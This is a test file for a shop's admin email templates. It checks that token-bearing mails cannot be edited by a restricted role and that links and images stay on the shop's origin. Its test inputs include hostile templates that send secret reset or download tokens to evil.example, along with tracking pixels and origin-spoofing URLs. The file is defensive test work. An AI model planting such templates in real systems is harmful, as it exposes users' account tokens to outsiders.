import { and, desc, eq } from "drizzle-orm";
import { JSDOM } from "jsdom";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "~/.server/db/client.server";
import { mailOutbox, mailTemplates } from "~/.server/db/schema";
import { MAIL_KINDS, type MailKind } from "~/modules/templates/mail-kinds";
import { renderTemplate } from "~/modules/templates/template-render.server";
import { SECRET_VARIABLES, TEMPLATE_VARIABLES } from "~/modules/templates/template-variables";
import { DEMO_CUSTOMER } from "~/.server/db/seed/users.server";
import { fieldErrors, submit } from "../setup/account-helpers";
import { loginAsAdmin } from "../setup/accounts";
import { Visitor } from "../setup/client";
import { bootShop, type Shop } from "../setup/shop";
import { createStaff, signInAsStaff } from "../setup/staff";

/**
 * Decision 0081: a mail whose link carries a secret token (password reset, invitation,
 * verification, offer, download, confirmation) must not be editable by scope editor, its
 * secret must only ever be the shop's own anchor, and every link or image of a template
 * points at PUBLIC_URL (refused on save, dropped on render). As a browser without JavaScript.
 */
const ORIGIN = "http://localhost:3000";
let shop: Shop;
let db: Database;
let admin: Visitor;
let editor: Visitor;
let editorEmail: string;

beforeAll(async () => {
  shop = await bootShop();
  db = await shop.db();
  admin = await loginAsAdmin(new Visitor(shop));
  const login = await createStaff(shop, "editor");
  editorEmail = login.email;
  editor = await signInAsStaff(new Visitor(shop), login);
}, 60_000);
afterAll(() => shop?.close());

/** The kinds whose senders put a one-time or signed token into a value, and those values (read from the senders). */
const SECRETS: Partial<Record<MailKind, string[]>> = {
  newsletterConfirmation: ["link"],
  accountVerification: ["link"],
  passwordReset: ["link"],
  eProductDownload: ["downloads"],
  orderDraft: ["link"],
  backofficeInvite: ["link"],
  formEmailConfirmation: ["link"],
};
const SECRET_KINDS = MAIL_KINDS.filter((kind) => SECRETS[kind]);
const OPEN_KINDS = MAIL_KINDS.filter((kind) => !SECRETS[kind]);
const templateRows = (kind: string) => db.select().from(mailTemplates).where(eq(mailTemplates.kind, kind));
const rowsOf = (html: string) =>
  [...new JSDOM(html).window.document.querySelectorAll('[data-testid="template-row"] a[href^="/admin/templates/"]')].map(
    (a) => a.getAttribute("href")!.split("/")[3]!.split("?")[0]!,
  );

describe("the mails that carry a secret", () => {
  it("are declared as such: every kind whose sender puts a one-time or signed token into a value, and no other", () => {
    for (const kind of MAIL_KINDS) expect([...(SECRET_VARIABLES?.[kind] ?? [])], kind).toEqual(SECRETS[kind] ?? []);
  });
});

describe("scope editor", () => {
  it("does not see a mail with a secret in the list or its CSV; it sees the others", async () => {
    const listed = rowsOf((await editor.page("/admin/templates?perPage=100")).html);
    expect(listed.sort()).toEqual([...OPEN_KINDS].sort());
    const csv = await (await editor.get("/admin/templates.csv")).text();
    for (const kind of SECRET_KINDS) expect(csv).not.toContain(`;${kind};`);
    for (const kind of OPEN_KINDS) expect(csv).toContain(`;${kind};`);
    expect(rowsOf((await admin.page("/admin/templates?perPage=100")).html).sort()).toEqual([...MAIL_KINDS].sort());
  });

  it.each(SECRET_KINDS)("can neither open nor save, reset or test-send %s, also by a direct POST", async (kind) => {
    for (const lang of ["hr", "en", "de"]) expect((await editor.get(`/admin/templates/${kind}?lang=${lang}`)).status).toBe(403);
    const before = await db.select({ id: mailOutbox.id }).from(mailOutbox).orderBy(desc(mailOutbox.id)).limit(1);
    const body = `<p>${TEMPLATE_VARIABLES[kind].map((name) => `{{${name}}}`).join(" ")}</p>`;
    const attempts: Record<string, string>[] = [
      { intent: "save", version: "0", subject: "Preuzeto", bodyHtml: body },
      { intent: "test", subject: "Preuzeto", bodyHtml: body },
      { intent: "preview", subject: "Preuzeto", bodyHtml: body },
      { intent: "reset", version: "0" },
    ];
    for (const fields of attempts) {
      const answer = await editor.post(`/admin/templates/${kind}?lang=hr`, fields, { tokenFrom: "/admin/templates" });
      expect(answer.status, `${kind} ${fields.intent}`).toBe(403);
      await answer.body?.cancel();
    }
    expect(await templateRows(kind)).toEqual([]);
    const after = await db.select({ id: mailOutbox.id }).from(mailOutbox).orderBy(desc(mailOutbox.id)).limit(1);
    expect(after).toEqual(before);
    expect((await admin.get(`/admin/templates/${kind}`)).status).toBe(200);
  });

  it("still edits a mail without a secret", async () => {
    const saved = await submit(editor, "/admin/templates/orderPaid?lang=hr", {
      intent: "save",
      version: "0",
      subject: "Plaćeno {{orderNumber}}",
      bodyHtml: '<p>Hvala, {{customerName}}. <a href="/kontakt">Kontakt</a></p>',
    });
    expect(saved.status).toBe(302);
    expect((await templateRows("orderPaid"))[0]).toMatchObject({ subject: "Plaćeno {{orderNumber}}", updatedByEmail: editorEmail });
  });
});

/** A template that tries every way of putting `{{name}}` somewhere of its own choosing. */
const hostile = (name: string) =>
  [
    `<p>Tekst: {{${name}}}</p>`,
    `<p><a href="{{${name}}}" title="{{${name}}}" target="_blank" rel="nofollow">gumb</a></p>`,
    `<p><a href="https://evil.example/?t={{${name}}}">a</a> <a href="/kontakt?t={{${name}}}">b</a> <a href="{{ ${name} }}x">c</a></p>`,
    `<p><img src="https://evil.example/p.png?{{${name}}}" alt="{{${name}}}"><img src="/slika.png?t={{${name}}}" alt="x"></p>`,
    `<p><a href="/kontakt">Pogledajte {{${name}}} <strong>ovdje</strong></a></p>`,
    `<p><a href="/kontakt"><a href="{{${name}}}">ugniježđeno</a></a></p>`,
    `<p>https://evil.example/?t={{${name}}}</p>`,
    `<table><tr><td title="&#123;&#123;${name}}}">{{${name}}}</td></tr></table>`,
  ].join("\n");

const secretValue = (name: string) =>
  name === "downloads"
    ? `Upute (PDF): ${ORIGIN}/preuzimanje/TAJNA1.x\nKatalog: ${ORIGIN}/preuzimanje/TAJNA2.y`
    : `${ORIGIN}/tajna?token=TAJNA1`;

describe("a secret value", () => {
  it.each(SECRET_KINDS)("of %s is only ever the shop's own anchor, whatever the template wrote", (kind) => {
    for (const name of SECRETS[kind]!) {
      const values = { ...Object.fromEntries(TEMPLATE_VARIABLES[kind].map((v) => [v, `vrijednost-${v}`])), [name]: secretValue(name) };
      const addresses = secretValue(name).match(/https?:\/\/\S+/g)!;
      const mail = renderTemplate(kind, { subject: `Naslov {{${name}}}`, bodyHtml: hostile(name) }, values);
      expect(mail.subject).not.toContain("TAJNA");
      const document = new JSDOM(mail.html).window.document;
      let anchors = 0;
      for (const element of document.body.querySelectorAll("*"))
        for (const attribute of element.attributes) {
          if (!attribute.value.includes("TAJNA")) continue;
          // The one place a secret may stand in a tag: the href of an anchor the shop made (no other attribute).
          expect(element.tagName, `${kind}: ${element.outerHTML}`).toBe("A");
          expect(attribute.name).toBe("href");
          expect(element.attributes).toHaveLength(1);
          expect(addresses).toContain(attribute.value);
          expect(element.parentElement?.closest("a")).toBeNull();
          anchors++;
        }
      expect(anchors).toBeGreaterThanOrEqual(addresses.length);
      for (const element of document.querySelectorAll("a[href], img[src]"))
        expect(new URL(element.getAttribute("href") ?? element.getAttribute("src")!).origin).toBe(ORIGIN);
      // The text part: the address stands apart (a mail client cannot join it to a foreign one) and nothing foreign links it.
      for (const address of addresses) {
        expect(mail.text).toContain(address);
        expect(mail.text).not.toMatch(new RegExp(`\\S${address.replace(/[.?*+^$()[\]{}|\\]/g, "\\$&")}`.replace("\\S", "[^\\s(]")));
      }
      expect(mail.text).not.toMatch(/evil\.example\S*TAJNA/);
    }
  });
});

describe("links and images of a template", () => {
  const FOREIGN = [
    '<a href="https://evil.example/x">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/\\evil.example/x">x</a>',
    '<a href="http://localhost:3000.evil.example/">x</a>',
    '<a href="https://localhost:3000/">x</a>',
    '<img src="https://evil.example/pixel.png" alt="">',
    '<a href="https://{{orderNumber}}.evil.example/">x</a>',
  ];

  it.each(FOREIGN)("pointing off the shop (%s) are refused on save with a translated message; nothing is stored", async (html) => {
    const before = await templateRows("orderShipped");
    const answer = await submit(editor, "/admin/templates/orderShipped?lang=hr", {
      intent: "save",
      version: String(before[0]?.version ?? 0),
      subject: "Poslano",
      bodyHtml: `<p>Pošiljka {{orderNumber}} ${html}</p>`,
    });
    expect(answer.status).toBe(400);
    expect(Object.values(fieldErrors(answer.html, "template-form")).join(" ")).toContain(
      `Poveznice i slike smiju voditi samo na adrese trgovine (${ORIGIN}).`,
    );
    expect(await templateRows("orderShipped")).toEqual(before);
  });

  it("on the shop (a path, PUBLIC_URL, mailto) are saved, and made absolute in the mail", async () => {
    const saved = await submit(editor, "/admin/templates/orderShipped?lang=hr", {
      intent: "save",
      version: "0",
      subject: "Poslano {{orderNumber}}",
      bodyHtml: `<p><a href="/kontakt">Kontakt</a> <a href="${ORIGIN}/profil">Profil</a> <a href="mailto:info@alu-krov.hr">Pišite</a> <img src="/media/logo.png" alt="logo"> {{trackingUrl}}</p>`,
    });
    expect(saved.status).toBe(302);
    const [row] = await templateRows("orderShipped");
    const mail = renderTemplate(
      "orderShipped",
      { subject: row!.subject!, bodyHtml: row!.bodyHtml! },
      {
        orderNumber: "1",
        customerName: "A",
        details: "",
        link: "",
        carrier: "",
        trackingNumber: "",
        trackingUrl: "https://www.posta.hr/pracenje",
      },
    );
    expect(mail.html).toContain(`<a href="${ORIGIN}/kontakt">Kontakt</a>`);
    expect(mail.html).toContain(`<a href="${ORIGIN}/profil">Profil</a>`);
    expect(mail.html).toContain('<a href="mailto:info@alu-krov.hr">Pišite</a>');
    expect(mail.html).toContain(`<img alt="logo" src="${ORIGIN}/media/logo.png" />`);
    expect(mail.text).toContain("https://www.posta.hr/pracenje");
  });

  it("pointing off the shop are dropped when the mail is rendered, also when a value makes them so", () => {
    const stored = FOREIGN.join(" ") + ' <a href="{{trackingUrl}}">praćenje</a> <a href="/{{trackingNumber}}">broj</a>';
    const mail = renderTemplate(
      "orderShipped",
      { subject: "s", bodyHtml: `<p>${stored}</p>` },
      {
        orderNumber: "1",
        customerName: "A",
        details: "",
        link: "",
        carrier: "",
        trackingNumber: "/evil.example/x",
        trackingUrl: "https://evil.example/t",
      },
    );
    const document = new JSDOM(mail.html).window.document;
    expect(document.querySelectorAll("img")).toHaveLength(0);
    for (const a of document.querySelectorAll("a[href]")) expect(new URL(a.getAttribute("href")!).origin).toBe(ORIGIN);
    expect(mail.text).not.toContain("evil.example");
  });
});

describe("scope admin", () => {
  it("saves a reset mail whose link is the shop's anchor; a secret placed elsewhere is refused with a translated message", async () => {
    const path = "/admin/templates/passwordReset?lang=hr";
    const misplaced = await submit(admin, path, {
      intent: "save",
      version: "0",
      subject: "Lozinka",
      bodyHtml: '<p><a href="/kontakt?t={{link}}">Postavi</a></p>',
    });
    expect(misplaced.status).toBe(400);
    expect(misplaced.html).toContain("{{link}} nosi tajnu poveznicu i smije stajati samo u tekstu");
    expect(await templateRows("passwordReset")).toEqual([]);

    const saved = await submit(admin, path, {
      intent: "save",
      version: "0",
      subject: "Nova lozinka za {{email}}",
      bodyHtml: '<p><a href="{{link}}" title="x">Postavite novu lozinku</a></p>',
    });
    expect(saved.status).toBe(302);
    await submit(new Visitor(shop), "/zaboravljena-lozinka", { intent: "forgot", email: DEMO_CUSTOMER.email }, "/");
    const [mail] = await db
      .select()
      .from(mailOutbox)
      .where(and(eq(mailOutbox.kind, "passwordReset"), eq(mailOutbox.to, DEMO_CUSTOMER.email)))
      .orderBy(desc(mailOutbox.id))
      .limit(1);
    expect(mail).toMatchObject({ subject: `Nova lozinka za ${DEMO_CUSTOMER.email}` });
    expect(mail!.html).toMatch(new RegExp(`^<p><a href="${ORIGIN}/zaboravljena-lozinka\\?token=[\\w-]+">Postavite novu lozinku</a></p>$`));
  });
});
